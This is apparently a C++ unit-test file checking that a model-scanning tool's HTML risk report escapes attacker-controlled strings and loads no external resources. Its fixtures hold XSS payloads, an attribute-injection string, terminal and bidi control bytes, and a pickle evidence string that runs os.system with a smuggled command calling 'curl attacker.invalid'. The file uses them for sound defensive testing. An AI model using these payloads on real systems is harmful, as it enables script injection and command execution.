// The HTML risk assessment without a browser: every section is there, attacker-controlled strings
// (paths, evidence, signer identities, syscall details) come out as text, never as markup, and
// the page loads nothing (CSP, no scripts, no external resources). tests/e2e/check_html_test.cpp
// loads the page in headless Chromium.
#include <gtest/gtest.h>

#include <chrono>
#include <string>

#include "policy/render_html.h"

namespace mg::policy {
namespace {

const auto kNow = std::chrono::sys_days(std::chrono::year(2026) / 11 / 28) + std::chrono::hours(3);
constexpr std::string_view kScript = "<script>alert(1)</script>";

std::size_t Count(const std::string& text, std::string_view part) {
  std::size_t count = 0;
  for (std::size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) {
    ++count;
  }
  return count;
}

bool Has(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

Policy TestPolicy() {
  Policy policy;
  policy.file = "/etc/modelgate/policy.yaml";
  policy.digest = "sha256:0123";
  return policy;
}

// A blocked model whose file name and evidence carry markup.
CheckResult BlockedResult() {
  CheckResult result;
  Evidence& evidence = result.evidence;
  evidence.model_path = "/models/<b>bert</b>";
  Target target;
  target.path = "/models/<b>bert</b>/<img src=x onerror=alert(1)>.pkl";
  target.format = "pickle";
  target.size = 1234;
  target.sha256 = "0f0f";
  target.status = TargetStatus::kComplete;
  Finding finding;
  finding.rule = "PICKLE-DANGEROUS-CALL";
  finding.severity = Severity::kCritical;
  finding.message = "The pickle calls os.system when loaded.";
  finding.location.path = target.path;
  finding.location.offset = 42;
  finding.evidence = "os.system('" + std::string(kScript) + " & curl attacker.invalid')";
  Finding low = finding;
  low.rule = "PICKLE-UNUSUAL-OPCODE";
  low.severity = Severity::kLow;
  low.evidence = "opcode \x1b[2J\xe2\x80\xae";  // terminal escape and a bidi override
  target.findings = {low, finding};
  evidence.scan.targets.push_back(target);
  evidence.digest = DigestEvidence{"sha256:abcdef", ""};

  integrity::VerifyOutcome outcome;
  outcome.status = integrity::VerifyStatus::kFailed;
  outcome.stage = integrity::VerifyStage::kManifest;
  outcome.message = "the model differs from what was signed";
  outcome.diff.modified = {"<i>config</i>.json"};
  evidence.verification = outcome;

  result.decision.verdict = Verdict::kBlock;
  result.decision.reasons = {{"findings", "critical finding <u>here</u>", "PICKLE-DANGEROUS-CALL"},
                             {"signatures", "signature not verified", ""}};
  result.decision.exceptions_expired = {{7, "vendor fix pending", "2026-01-31", "expired"}};
  return result;
}

CheckResult AllowedResultWithTrialLoad() {
  CheckResult result;
  result.evidence.model_path = "/models/clean";
  Target target;
  target.path = "/models/clean/model.safetensors";
  target.format = "safetensors";
  result.evidence.scan.targets.push_back(target);

  integrity::VerifyOutcome outcome;
  outcome.status = integrity::VerifyStatus::kVerified;
  outcome.stage = integrity::VerifyStage::kDone;
  outcome.signer = integrity::VerifiedSigner{};
  outcome.signer->method = "sigstore";
  outcome.signer->identity = "ml-team@example.invalid\" onclick=\"x";
  outcome.signer->issuer = "https://issuer.example.invalid";
  outcome.signer->signed_at = "2026-11-01T10:00:00Z";
  integrity::Manifest manifest;
  manifest.resources.push_back({"model.safetensors", "sha256", {0xde, 0xad, 0xbe, 0xef}});
  outcome.signed_manifest = manifest;
  result.evidence.verification = outcome;

  sandbox::RunReport run;
  run.command = {"python3", "-c", "load()", "/model/<script>"};
  run.outcome = sandbox::Outcome::kViolation;
  run.exit_status = 0;
  run.isolation.namespaces = true;
  run.isolation.seccomp = true;
  run.isolation.monitor = true;
  run.attempts = {{"connect", "10.0.0.1:443 <script>", 4242, false},
                  {"openat", "/usr/lib/python3/os.py", 4242, true}};
  run.attempts_dropped = 3;
  result.evidence.trial_load = TrialLoadEvidence{false, "the loader tried to connect", run};

  result.decision.verdict = Verdict::kAllow;
  result.decision.exceptions_applied = {
      {3, "accepted by security review", "2026-12-31", "PICKLE-X at <model>"}};
  return result;
}

TEST(PolicyRenderHtml, AttackerStringsAreEscapedNeverMarkup) {
  const std::string html =
      RenderCheckHtml(TestPolicy(), {BlockedResult(), AllowedResultWithTrialLoad()}, kNow);
  EXPECT_FALSE(Has(html, "<script")) << html;
  EXPECT_FALSE(Has(html, "<img"));
  EXPECT_FALSE(Has(html, "<b>"));
  EXPECT_FALSE(Has(html, "<i>"));
  EXPECT_FALSE(Has(html, "<u>"));
  EXPECT_FALSE(Has(html, "\" onclick=\""));
  EXPECT_TRUE(Has(html, "&lt;script&gt;alert(1)&lt;/script&gt; &amp; curl attacker.invalid"));
  EXPECT_TRUE(Has(html, "/models/&lt;b&gt;bert&lt;/b&gt;/&lt;img src=x onerror=alert(1)&gt;.pkl"));
  EXPECT_TRUE(Has(html, "&quot; onclick=&quot;x"));
  EXPECT_TRUE(Has(html, "10.0.0.1:443 &lt;script&gt;"));
  EXPECT_TRUE(Has(html, "&lt;i&gt;config&lt;/i&gt;.json"));
  // Terminal controls and bidi overrides are shown, not obeyed.
  EXPECT_FALSE(Has(html, "\x1b"));
  EXPECT_FALSE(Has(html, "\xe2\x80\xae"));
  EXPECT_TRUE(Has(html, "\\x1b[2J")) << html;
}

TEST(PolicyRenderHtml, LoadsNothingAndIsOneWellNestedDocument) {
  const std::string html =
      RenderCheckHtml(TestPolicy(), {BlockedResult(), AllowedResultWithTrialLoad()}, kNow);
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_TRUE(Has(html,
                  "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
                  "'none'; style-src 'unsafe-inline'\">"));
  for (const char* loader : {"<link", "<iframe", "<object", "<embed", "url(", "@import", "<base",
                             " href=", "<img", "<script"}) {
    EXPECT_FALSE(Has(html, loader)) << loader;
  }
  for (const char* tag : {"table", "section", "dl", "ul", "div", "pre", "code", "tr", "td"}) {
    EXPECT_EQ(Count(html, "<" + std::string(tag) + ">") + Count(html, "<" + std::string(tag) + " "),
              Count(html, "</" + std::string(tag) + ">"))
        << tag;
  }
  EXPECT_TRUE(Has(html, "@media print"));
}

TEST(PolicyRenderHtml, BlockedModelShowsDecisionIdentityProvenanceAndFindings) {
  const std::string html = RenderCheckHtml(TestPolicy(), {BlockedResult()}, kNow);
  EXPECT_TRUE(Has(html, "id=\"overall-decision\" data-decision=\"block\""));
  EXPECT_TRUE(Has(html, "Overall decision: BLOCK"));
  EXPECT_TRUE(Has(html, "<title>Model risk assessment: BLOCK</title>"));
  EXPECT_TRUE(Has(html, "Decision: BLOCK"));
  EXPECT_TRUE(Has(html,
                  "<code>[findings]</code> critical finding &lt;u&gt;here&lt;/u&gt; (rule "
                  "<code>PICKLE-DANGEROUS-CALL</code>)"));
  EXPECT_TRUE(Has(html, "<code>[signatures]</code> signature not verified</li>"));
  EXPECT_TRUE(Has(html, "2026-11-28T03:00:00Z"));
  EXPECT_TRUE(Has(html, "<code>sha256:0123</code>"));
  EXPECT_TRUE(Has(html, "<code>sha256:abcdef</code>"));
  EXPECT_TRUE(Has(html, "<td>1234</td><td class=\"mono\">0f0f</td><td>complete</td>"));
  EXPECT_TRUE(Has(html, "not verified"));
  EXPECT_TRUE(Has(html, "<dd>manifest</dd>"));
  EXPECT_TRUE(Has(html, "the model differs from what was signed"));
  EXPECT_TRUE(Has(html, "2 findings in 1 file (1 critical, 1 low)."));
  // Most severe first, whatever the report order.
  const std::size_t critical = html.find("<td class=\"sev sev-critical\">critical</td>");
  const std::size_t low = html.find("<td class=\"sev sev-low\">low</td>");
  ASSERT_NE(critical, std::string::npos);
  ASSERT_NE(low, std::string::npos);
  EXPECT_LT(critical, low);
  EXPECT_TRUE(Has(html, ".pkl @42</code>"));
  EXPECT_TRUE(Has(html, "expired</span></td><td>7</td><td>2026-01-31</td>"));
  EXPECT_TRUE(Has(html, "<p>Not required by the policy.</p>"));
}

TEST(PolicyRenderHtml, AllowedModelShowsSignerDigestsAndEveryTrialAttempt) {
  const std::string html = RenderCheckHtml(TestPolicy(), {AllowedResultWithTrialLoad()}, kNow);
  EXPECT_TRUE(Has(html, "data-decision=\"allow\""));
  EXPECT_FALSE(Has(html, "<th>SHA-256</th>"));  // no target was hashed
  EXPECT_TRUE(Has(html, "Every clause of the policy is satisfied."));
  EXPECT_TRUE(Has(html, "<dd>sigstore</dd>"));
  EXPECT_TRUE(Has(html, "https://issuer.example.invalid"));
  EXPECT_TRUE(Has(html, "2026-11-01T10:00:00Z"));
  EXPECT_TRUE(
      Has(html, "<td>model.safetensors</td><td>sha256</td><td class=\"mono\">deadbeef</td>"));
  EXPECT_TRUE(Has(html, "applied</td><td>3</td><td>2026-12-31</td>"));
  EXPECT_TRUE(Has(html, "PICKLE-X at &lt;model&gt;"));
  EXPECT_TRUE(Has(html, "<strong class=\"blocked\">Failed</strong>: the loader tried to connect"));
  EXPECT_TRUE(Has(html, "python3 -c load() /model/&lt;script&gt;"));
  EXPECT_TRUE(Has(html, "<strong class=\"outcome\">VIOLATION</strong> (exited with status 0)"));
  EXPECT_TRUE(Has(html, "<strong class=\"isolation\">full</strong> (namespaces, seccomp, monitor"));
  EXPECT_TRUE(Has(html, "class=\"blocked\">BLOCKED</td><td><code>connect</code>"));
  EXPECT_TRUE(Has(html,
                  "<td>allowed</td><td><code>openat</code></td><td><pre>/usr/lib/python3/"
                  "os.py</pre></td><td>4242</td>"));
  EXPECT_TRUE(Has(html, "3 more attempts were not recorded."));
}

TEST(PolicyRenderHtml, TrialLoadThatDidNotRunOrCouldNotStart) {
  Policy policy = TestPolicy();
  policy.trial_load.required = true;
  policy.trial_load.loader = {"python3", "load.py"};
  CheckResult result = BlockedResult();
  std::string html = RenderCheckHtml(policy, {result}, kNow);
  EXPECT_TRUE(Has(html, "Did not run</span>: required by the policy"));
  result.evidence.trial_load = TrialLoadEvidence{false, "sandbox unavailable", std::nullopt};
  html = RenderCheckHtml(policy, {result}, kNow);
  EXPECT_TRUE(Has(html, "<strong class=\"blocked\">Failed</strong>: sandbox unavailable"));
  EXPECT_TRUE(Has(html, "<code>python3 load.py</code>, timeout 60 s"));
  EXPECT_TRUE(Has(html, "The sandbox did not start"));
  EXPECT_FALSE(Has(html, "class=\"attempts\""));
}

TEST(PolicyRenderHtml, HtmlSafeEscapesMarkupQuotesAndControls) {
  EXPECT_EQ(HtmlSafe("a<b>&\"c'"), "a&lt;b&gt;&amp;&quot;c&#39;");
  EXPECT_EQ(HtmlSafe("line\nnext"), "line\\nnext");
  EXPECT_EQ(HtmlSafe("caf\xc3\xa9"), "caf\xc3\xa9");  // printable UTF-8 is kept
  const std::string cut = HtmlSafe(std::string(5000, '<'), 100);
  EXPECT_LT(cut.size(), 100u * 4 + 40);
  EXPECT_TRUE(Has(cut, "(+"));
}

}  // namespace
}  // namespace mg::policy
